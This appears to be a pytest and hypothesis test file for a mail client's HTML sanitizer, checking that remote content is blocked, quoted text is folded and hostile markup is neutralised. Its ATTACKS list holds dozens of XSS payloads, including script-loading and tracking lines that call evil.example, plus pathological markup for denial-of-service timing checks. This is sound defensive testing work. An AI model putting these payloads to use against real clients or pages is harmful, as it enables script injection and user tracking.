"""HTML fit to be shown: nothing runs, nothing is fetched, what is known already is folded."""

from __future__ import annotations

import html
import re
import time
from html.parser import HTMLParser
from pathlib import Path

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st

from desktop_app.wire.html_clean import clean_html, text_to_html
from desktop_app.wire.html_reason import is_within_reason
from desktop_app.wire.html_text import html_to_text

FIXTURES = Path(__file__).parents[1] / "fixtures" / "mail" / "html"
REPLIES = Path(__file__).parents[3] / "shared" / "corpora" / "replies"

FETCHING = {"src", "srcset", "background", "poster", "data", "action", "formaction", "lowsrc"}
FETCHING |= {"dynsrc", "icon", "manifest", "ping", "archive", "codebase", "longdesc", "cite"}
HARMLESS = (
    "a abbr acronym address article aside b bdi bdo big blockquote br caption center cite code col "
    "colgroup dd del details dfn dir div dl dt em figcaption figure font footer h1 h2 h3 h4 h5 h6 "
    "header hr i img ins kbd li main mark nav ol p pre q rp rt ruby s samp section small span "
    "strike strong sub summary sup table tbody td tfoot th thead time tr tt u ul var wbr"
)
HARMLESS_TAGS = set(HARMLESS.split())


class Judge(HTMLParser):
    """Looks at what a browser would look at, with other code than the cleaner's."""

    def __init__(self, shown: str) -> None:
        super().__init__(convert_charrefs=True)
        self.faults: list[str] = []
        self.feed(shown)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag not in HARMLESS_TAGS:
            self.faults.append(tag)
        for name, value in attrs:
            text = re.sub(r"[\s\x00-\x20]", "", value or "").lower()
            if name.startswith("on") or name in ("target", "id", "name", "form"):
                self.faults.append(f"{tag} {name}")
            if name in FETCHING and not text.startswith(("data:image/", "part:")):
                self.faults.append(f"{tag} {name}={text}")
            if name == "href" and not re.match(r"https?://|mailto:", text):
                self.faults.append(f"{tag} {name}={text}")
            if name == "class" and (tag, text) != ("details", "quoted"):
                self.faults.append(f"{tag} {name}={text}")
            if name == "style" and re.search(
                r"url|expression|@|\\|position|image|javascript|behavior|binding|/\*|://", text
            ):
                self.faults.append(f"{tag} {name}={text}")

    def handle_comment(self, data: str) -> None:
        self.faults.append("comment")


def faults(shown: str) -> list[str]:
    return Judge(shown).faults


ATTACKS = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror=alert(1)//",
    "<svg onload=alert(1)><script>alert(1)</script></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><!--</style>"
    "<img title='--&gt;<img src=1 onerror=alert(1)>'>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<iframe src=https://evil.example></iframe>",
    "<object data=https://evil.example></object><embed src=https://evil.example>",
    "<form action=https://evil.example><input name=p><button formaction=//evil.example>go</form>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href=' java\nscript:alert(1)'>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    "<a href='\x01javascript:alert(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='vbscript:x'>x</a><a href='file:///etc/passwd'>y</a><a href='//evil.example'>z</a>",
    "<a href=https://ok.example target=_blank onclick=x id=top name=y>x</a>",
    "<base href=https://evil.example/><img src=pixel.png>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<link rel=stylesheet href=https://evil.example/x.css><link rel=preload href=//evil.example>",
    "<style>@import url(https://evil.example/x.css); body{background:url(//evil.example)}</style>",
    "<img src=https://evil.example/pixel.gif><img srcset='https://evil.example/2x.png 2x'>",
    "<img src='//evil.example/x'><img src='\\\\evil.example\\x'><img src='/\\evil.example/x'>",
    "<img src='ht\ttps://evil.example/x'><img src=' https://evil.example/x'>",
    "<img src='file:///etc/passwd'><img src='smb://evil.example/x'><img src='pixel.gif'>",
    "<img src='data:image/svg+xml;base64,PHN2Zz4='><img src='data:text/html;base64,AAAA'>",
    "<body background=https://evil.example/x><table background='//evil.example/y'><tr><td>",
    "<div style='background:url(https://evil.example/x)'>x</div>",
    "<div style='background:u\\72l(https://evil.example/x)'>x</div>",
    "<div style='background:url/**/(https://evil.example/x)'>x</div>",
    "<div style='width:expression(alert(1));behavior:url(x.htc);-moz-binding:url(x)'>x</div>",
    "<div style='background-image:image-set(\"https://evil.example/x\" 1x)'>x</div>",
    "<div style='list-style-image:url(//evil.example);content:url(//evil.example)'>x</div>",
    "<div style='position:fixed;top:0;left:0;width:100%;height:100%;z-index:9'>x</div>",
    "<div style='margin-top:-200px'>x</div>",
    "<div style='color:red;}</style><script>alert(1)</script>'>x</div>",
    "<video poster=https://evil.example src=//evil.example></video><audio src=//evil.example>",
    "<blockquote cite='https://evil.example' class='x\"><script>'>x</blockquote>",
    "<img alt='a class=' title=' src=//evil.example onerror=alert(1) x='>",
    "<details open ontoggle=alert(1) class=quoted><summary>x</summary></details>",
    "<xmp><img src=x onerror=alert(1)></xmp><plaintext><img src=x onerror=alert(1)>",
    "<textarea><img src=x onerror=alert(1)></textarea><select><option>x</select>",
    "<!--><img src=x onerror=alert(1)>--><!-- --!><img src=x onerror=alert(1)>",
    "<?xml-stylesheet href='javascript:alert(1)'?><![CDATA[<script>alert(1)</script>]]>",
    "<a href='https://evil.example\" onmouseover=\"alert(1)'>x</a>",
    "<p id=app class=topbar style=color:red>x</p>",
    "\x00<scr\x00ipt>alert(1)</scr\x00ipt>",
    "<image src=https://evil.example/x><isindex><marquee onstart=alert(1)>x</marquee>",
]


@pytest.mark.parametrize("markup", ATTACKS)
def test_attacks(markup: str) -> None:
    for whole in (markup, f"<div>own words</div><blockquote type=cite>{markup}</blockquote>"):
        assert faults(clean_html(whole).html) == []


_fragments = st.sampled_from(
    [
        *ATTACKS,
        *("<div>", "</div>", "<p>", "<b>", "</b>", "<table><tr><td>", "</table>", "<blockquote>"),
        *("</blockquote>", "On Monday Ada wrote:", "<br>", "own words", '"', "'", ">", "<", "<!--"),
        *(
            "-->",
            "&lt;script&gt;",
            "<div class=gmail_quote>",
            "-- ",
            "<style>",
            "</style>",
            "<svg>",
        ),
        *(
            "<p style='",
            "<a href='",
            "<img src='",
            "<![endif]",
            "<template>",
            "<title>",
            "</title>",
        ),
    ]
)


@settings(max_examples=500, deadline=None)
@given(st.lists(_fragments, max_size=12).map("".join))
@example("<a href='</div>'>" + "<style></style>" * 3)
def test_no_mixture_survives(markup: str) -> None:
    assert faults(clean_html(markup).html) == []


@settings(max_examples=300, deadline=None)
@given(st.text(alphabet="<>/!-=&;#\"' \nabcdefghijklmnopqrstuvwxyz:()\x00\\", max_size=150))
def test_no_text_survives(markup: str) -> None:
    assert faults(clean_html(markup).html) == []
    assert faults(clean_html("<img src=" + markup).html) == []
    assert faults(clean_html("<p style=" + markup).html) == []


@settings(max_examples=200, deadline=None)
@given(st.text(max_size=200))
def test_plain_text_never_becomes_markup(plain: str) -> None:
    shown = text_to_html(plain)
    assert faults(shown.html) == []
    seen = html_to_text(shown.html).replace("\n", "").replace(" ", "")
    assert ("<" in plain) <= ("&lt;" in shown.html or "<" not in seen)


def test_remote_pictures_are_counted_and_left_out_until_asked_for() -> None:
    markup = (
        '<p>Hi <img src="https://x.example/a.png" width="20" alt="Logo">'
        '<img src="//x.example/b.gif"><td background="http://x.example/c">'
        '<p style="background: url(http://x.example/d); color: red">x</p>'
    )
    blocked = clean_html(markup)
    assert "x.example" not in blocked.html
    assert 'alt="Logo"' in blocked.html
    assert "color: red" in blocked.html
    assert blocked.blocked_remote == 3  # a stray <td> is no element
    shown = clean_html(markup, allow_remote=True)
    assert 'src="https://x.example/a.png"' in shown.html
    assert 'src="https://x.example/b.gif"' in shown.html
    assert shown.blocked_remote == 0


def test_pictures_of_the_message_itself() -> None:
    markup = '<img src="cid:logo@acme"><img src="CID:two%40acme"><img src="cid:missing">'
    shown = clean_html(markup, cid_urls={"logo@acme": "part:1", "two@acme": "part:2"})
    assert shown.html == '<img src="part:1"><img src="part:2"><img>'
    assert shown.blocked_remote == 0
    inside = '<img src="data:image/png;base64,iVBORw0KGgo=">'
    assert clean_html(inside).html == inside


def test_links_lead_out_and_tell_nobody_where_from() -> None:
    shown = clean_html('<a href="https://x.example/?a=1&amp;b=2" target="_top">x</a>').html
    assert shown == ('<a href="https://x.example/?a=1&amp;b=2" rel="noopener noreferrer">x</a>')
    assert "mailto:a@x.example" in clean_html('<a href="mailto:a@x.example">x</a>').html


def test_what_makes_mail_look_like_itself_stays() -> None:
    markup = (
        '<table width="600" cellpadding="4" bgcolor="#eeeeee"><tbody><tr><td align="center" '
        'colspan="2" style="font-family: Arial, \'Segoe UI\'; padding: 4px 8px; border-left: 2px '
        'solid rgb(1, 2, 3)"><font color="red" size="2"><b>x</b></font></td></tr></tbody></table>'
    )
    assert html_to_text(clean_html(markup).html) == "x"
    for kept in ('width="600"', "border-left: 2px solid rgb(1, 2, 3)", 'color="red"', "Segoe UI"):
        assert kept in clean_html(markup).html
    assert clean_html("<form><p>all in a form</p></form>").html == "<p>all in a form</p>"


def parts(shown: str) -> tuple[str, str]:
    """Text above the fold, and in it."""
    above, fold, rest = shown.partition('<details class="quoted">')
    return html_to_text(above), html_to_text(fold + rest)


@pytest.mark.parametrize("path", sorted(FIXTURES.glob("*.html")), ids=lambda path: path.stem)
def test_quotations_of_known_programs_are_folded(path: Path) -> None:
    shown = clean_html(path.read_text())
    assert shown.quoted
    above, below = parts(shown.html)
    assert above == "We take the offer."
    assert "The old question." in below
    assert faults(shown.html) == []


def test_there_are_fixtures() -> None:
    assert len(list(FIXTURES.glob("*.html"))) == 7


@pytest.mark.skipif(not REPLIES.is_dir(), reason="the shared corpora are absent")
def test_collected_replies_show_their_own_words_alone() -> None:
    paths = sorted((REPLIES / "html_replies").glob("*.html"))
    assert paths
    for path in paths:
        shown = clean_html(path.read_text("utf-8", errors="replace"))
        above, below = parts(shown.html)
        assert " ".join(above.split()) == "Hi. I am fine. Thanks, Alex", path
        assert "Hello! How are you?" in below, path
        assert faults(shown.html) == [], path


@pytest.mark.parametrize(
    "markup",
    [
        "<p>no quotation here</p>",
        "<blockquote type=cite><p>nothing but a quotation</p></blockquote>",
        "<blockquote type=cite>question one</blockquote><p>answer one</p>"
        "<blockquote type=cite>question two</blockquote><p>answer two</p>",
        "<p>As the poet says</p><blockquote>A rose is a rose.</blockquote><p>Regards</p>",
        "<p>See below.</p><div class=gmail_quote>---------- Forwarded message ---------<br>"
        "From: Ada<br><p>The offer.</p></div>",
    ],
)
def test_what_should_be_seen_is_not_folded(markup: str) -> None:
    shown = clean_html(markup)
    assert not shown.quoted
    assert "<details" not in shown.html
    assert html_to_text(shown.html) == html_to_text(markup)


def test_folding_loses_no_word() -> None:
    for path in FIXTURES.glob("*.html"):
        above, below = parts(clean_html(path.read_text()).html)
        whole = html_to_text(path.read_text()).replace(">", "").split()
        folded = (above + " " + below).replace("…", "").replace(">", "").split()
        assert folded == whole, path


def test_a_quotation_beside_own_words_in_a_table_is_left() -> None:
    markup = (
        "<table><tr><td>own</td></tr><tr><td><blockquote type=cite>q</blockquote></td></tr></table>"
    )
    shown = clean_html(markup)
    assert html_to_text(shown.html).split() == ["own", ">", "q"]


@pytest.mark.parametrize(
    "markup",
    [
        "<div>" * 100_000 + "x",
        "<b>" * 300 + "<p>x" * 20_000,
        "".join(f"<font size={n}>" for n in range(399)) + "<p>x" * 30_000,
        "<blockquote></blockquote>" * 60_000,
        "<blockquote>" * 390 + "x:" * 1000,
        "<div></b>" * 400_000,
        "<span><div></span></div>" * 100_000,
        "<div title='</div>'>" * 100_000,
        "<div><!--</div>-->" * 100_000,
        "<unknown></b>" * 200_000,
        "<p>x</p>" * 20_000 + "".join(f"<i a={n}>x<p>" for n in range(60_000)),
        "<div " + " ".join(f"a{n}" for n in range(200_000)) + ">",
        "<style>" * 500_000,
        "<![" * 1_000_000,
        "<!--" * 900_000,
        "</" * 1_500_000,
        "<p " + "\n" * 3_000_000,
        "<table><tr><td>" * 350,
        "<a href='" + "x" * 1_000_000,
        "<a href='https://a.example/" + " " * 1_000_000 + "x'>y</a>",
        "<img src='https://a.example/" + "\xa0" * 1_000_000 + "x'>",
        "x" * 5_000_000,
    ],
    ids=lambda markup: markup[:14],
)
def test_hostile_markup_is_shown_in_no_time(markup: str) -> None:
    started = time.process_time()
    shown = clean_html("<p>own</p>" + markup)
    assert time.process_time() - started < 10  # quadratic would be minutes
    assert faults(shown.html[:200_000]) == []


def test_markup_beyond_reason_is_shown_as_its_text() -> None:
    shown = clean_html("<div>" * 1000 + "words <script>x</script>")
    assert shown.simplified
    assert html_to_text(shown.html) == "words"


@pytest.mark.parametrize(
    "markup",
    [
        "<p>One.<br>Two.</p>" * 3_000,
        "<table><tr><td><font size=2><b>x</b> <i>y</i></font></td></tr></table>" * 3_000,
        "<p>x</b></div></span>" * 3_000,  # closes what was never open
        "<div><span><p>x</div>" * 3_000,  # and never closes what was
        "<div>" * 200 + "<p>x" * 3_000,
        "<!-- <div> -->" * 3_000,
        "<img src='data:image/png;base64," + "A/b+" * 100_000 + "'>" + "<p>x</p>" * 500,
        "a < b and so on, " + "for many words, " * 20_000 + "<p>x</p>" * 500,
    ],
)
def test_what_real_programs_write_is_within_reason(markup: str) -> None:
    assert not clean_html(markup).simplified


def test_what_takes_too_long_is_beyond_reason() -> None:
    """The watch is the processor's: it is asked before the first part, and after each."""
    seconds = iter([0.0, 1.0, 6.0])
    markup = "<svg></svg>" + "<p>One.</p>" * 12_000
    assert not is_within_reason(markup, lambda: next(seconds))
    seconds = iter([0.0, 1.0, 2.0, 2.5])
    assert is_within_reason(markup, lambda: next(seconds))


@pytest.mark.parametrize(
    ("written", "kept"),
    [
        ("https://norvane.example/My Offer 2026.pdf", "https://norvane.example/My Offer 2026.pdf"),
        ("https://a.example/?q={{ name | default: 'dear friend' }}",
         "https://a.example/?q={{ name | default: 'dear friend' }}"),
        (" \u00a0https://a.example/x \n", "https://a.example/x"),
        ("https://a.exa\n\tmple/x\ny", "https://a.example/xy"),
        ("https://good.exa\u200bmple/x", "https://good.example/x"),
        ("https://a.example/e\u0301\u200d\u00a0x", "https://a.example/e\u0301%E2%80%8D%C2%A0x"),
        ("https://a.example", "https://a.example"),
        ("mailto: ines@norvane.example?subject=Your question&body=Dear Ines",
         "mailto:ines@norvane.example?subject=Your question&body=Dear Ines"),
        ("mailto:ines@norvane.example ", "mailto:ines@norvane.example"),
    ],
)  # fmt: skip
def test_a_link_keeps_what_it_says(written: str, kept: str) -> None:
    shown = clean_html(f'<a href="{html.escape(written)}">x</a>').html
    found = re.search(r'href="([^"]*)"', shown)
    assert found and html.unescape(found[1]) == kept


@pytest.mark.parametrize(
    "written", ["java\u200bscript:x", "\x01javascript:x", "java\nscript:x", "h\x00ttps://a.example"]
)
def test_what_cannot_be_seen_makes_no_other_scheme(written: str) -> None:
    assert "script" not in clean_html(f'<a href="{html.escape(written)}">x</a>').html


def test_a_picture_is_found_by_a_name_with_a_space() -> None:
    inside = dict.fromkeys(("Foo Bar", "a b"), "data:image/png;base64,AA")
    shown = clean_html('<img src="cid:Foo Bar"><img src="cid:a%20b">', cid_urls=inside)
    assert shown.html.count("src=") == 2
    remote = clean_html('<img src="https://a.example/My Pic.png">', allow_remote=True)
    assert 'src="https://a.example/My Pic.png"' in remote.html


def test_plain_text_with_links_and_quotations() -> None:
    shown = text_to_html(
        "See <https://x.example/a?b=1&c=2>, (www.y.example) or write ada@acme.example.\n"
        "\nOn Mon, 2 Mar 2026, Rep wrote:\n> old\n>> older\n"
    )
    assert shown.quoted
    above, _, below = shown.html.partition('<details class="quoted">')
    assert '<a href="https://x.example/a?b=1&amp;c=2" rel="noopener noreferrer">' in above
    assert '<a href="http://www.y.example" rel="noopener noreferrer">www.y.example</a>)' in above
    assert '<a href="mailto:ada@acme.example"' in above
    assert "On Mon, 2 Mar 2026" in below
    assert below.count("<blockquote>") == below.count("</blockquote>") == 2


def test_plain_text_keeps_its_lines_and_spaces() -> None:
    shown = text_to_html("a\n  b\n\nc & <d>")
    assert shown.html == '<div style="white-space: pre-wrap">a\n  b\n\nc &amp; &lt;d&gt;</div>'
    assert not shown.quoted


def test_answers_between_quoted_lines_stay() -> None:
    shown = text_to_html("> one?\nyes\n> two?\nno\n")
    assert not shown.quoted
    assert shown.html.count("<blockquote>") == 2


def test_a_signature_is_folded() -> None:
    shown = text_to_html("Yes, we take it.\n\n-- \nAda\nAcme\n")
    above, below = parts(shown.html)
    assert (above, shown.quoted) == ("Yes, we take it.", True)
    assert "Acme" in below
